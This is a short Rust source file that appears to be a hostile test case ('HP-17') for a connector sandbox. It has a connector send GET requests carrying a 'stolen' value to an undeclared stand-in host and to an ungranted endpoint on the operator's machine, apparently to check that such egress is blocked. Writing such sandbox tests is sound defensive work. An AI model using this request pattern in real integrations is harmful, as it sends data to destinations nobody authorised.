//! HP-17: a host that no contract names, and one on the operator's own machine that nobody granted.

use hostile_kit::{
    config,
    sdk::connector::{Answer, Fault, Job, Outcome, Place, Request},
    tell,
};

hostile_kit::connector!(next, respond);

fn next(job: &Job, _: &Place) -> Result<Outcome, Fault> {
    let base = config(job).base;
    let asked = [
        "https://undeclared.invalid/?stolen=lumora".to_owned(),
        format!("{base}/stolen?q=lumora"),
    ];
    Ok(Outcome::again(asked.map(Request::get).to_vec(), ""))
}

fn respond(job: &Job, _: &[u8], answers: Vec<Answer>) -> Result<Outcome, Fault> {
    Ok(tell(job, &format!("{answers:?}")))
}
